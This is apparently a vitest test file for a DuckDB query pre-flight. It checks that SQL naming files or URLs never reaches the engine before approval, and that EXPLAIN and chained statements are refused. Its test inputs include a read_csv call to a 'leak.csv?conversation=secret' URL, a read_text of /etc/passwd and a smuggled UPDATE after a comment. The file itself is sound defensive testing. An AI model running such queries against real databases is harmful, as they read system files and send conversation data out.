// The pre-flight runs before the person approves: it hands DuckDB nothing that names a file or a URL,
// never runs an EXPLAIN the person has not approved, and describes ordinary queries as before.
import { resolve } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { DuckDbNodeEngine } from '../../src/data/duckdb-node-engine';
import { createEnginePreflight } from '../../src/data/preflight';
import type { DataEngine, QueryOptions } from '../../src/data/data-engine';

const airports = resolve('node_modules/vega-datasets/data/airports.csv');
const signal = new AbortController().signal;

describe('the pre-flight', () => {
  const engine = new DuckDbNodeEngine();
  const seen: string[] = [];
  // The engine as the pre-flight sees it, recording every SQL text handed to DuckDB.
  const recording: DataEngine = {
    load: (source) => engine.load(source),
    listTables: () => engine.listTables(),
    describe: (table) => engine.describe(table),
    close: () => engine.close(),
    drop: (table) => engine.drop(table),
    query: (sql: string, options?: QueryOptions) => {
      seen.push(sql);
      return engine.query(sql, options);
    },
    readStatements: (sql: string) => {
      seen.push(sql);
      return engine.readStatements(sql);
    },
  };
  const preflight = createEnginePreflight(recording);

  beforeAll(async () => {
    await engine.load({ table: 'airports', format: 'csv', url: airports });
    await engine.lockDown();
  });
  afterAll(() => engine.close());

  it.each([
    [
      "SELECT * FROM read_csv('http://127.0.0.1:9/leak.csv?conversation=secret')",
      'http://127.0.0.1:9/leak.csv?conversation=secret',
    ],
    ["SELECT * FROM 'https://data.example.org/x.parquet'", 'https://data.example.org/x.parquet'],
    ['SELECT * FROM "quakes.csv"', 'quakes.csv'],
    ['SELECT * FROM data.csv', 'data.csv'],
    ["SELECT * FROM read_text('/etc/passwd')", '/etc/passwd'],
    ["SELECT * FROM glob('*')", '*'],
    ["SELECT * FROM read_csv(getvariable('file'))", 'read_csv()'],
    ["SELECT * FROM query('SELECT * FROM read_csv(''s3://b/k.csv'')')", 's3://b/k.csv'],
    ["SELECT * FROM airports WHERE name = 'see http://x.example/?q=1'", 'http://x.example/?q=1'],
  ])('hands DuckDB nothing for a query that names a file or URL: %s', async (sql, named) => {
    seen.length = 0;
    const report = await preflight(sql, signal);
    expect(report).toEqual({
      parses: false,
      error: `Not checked before approval: the query reads ${named}`,
    });
    expect(seen).toEqual([]);
  });

  it('does not run an EXPLAIN before approval', async () => {
    seen.length = 0;
    const report = await preflight('EXPLAIN ANALYZE SELECT count(*) FROM airports', signal);
    expect(report.parses).toBe(false);
    expect(report.error).toMatch(/^Not checked before approval/);
    expect(seen).toEqual([]);
  });

  it('refuses what the SQL server would refuse, without running it', async () => {
    seen.length = 0;
    const report = await preflight("SELECT 1 --x\r; UPDATE airports SET name = 'x'", signal);
    expect(report).toEqual({ parses: false, error: expect.stringMatching(/one statement/) });
    expect(seen).toEqual([]);
  });

  it('describes the columns and estimates the rows of an ordinary query', async () => {
    seen.length = 0;
    const report = await preflight(
      "SELECT iata, latitude FROM airports WHERE state = 'CO';",
      signal,
    );
    expect(report.parses).toBe(true);
    expect(report.columns).toEqual([
      { name: 'iata', type: 'VARCHAR' },
      { name: 'latitude', type: 'DOUBLE' },
    ]);
    expect(report.estimatedRows).toBeGreaterThan(0);
    expect(seen.filter((sql) => /^(DESCRIBE|EXPLAIN) /.test(sql))).toHaveLength(2);
  });

  it('reports what DuckDB says about SQL that does not bind', async () => {
    const report = await preflight('SELECT nope FROM airports', signal);
    expect(report.parses).toBe(false);
    expect(report.error).toMatch(/nope/);
  });
});
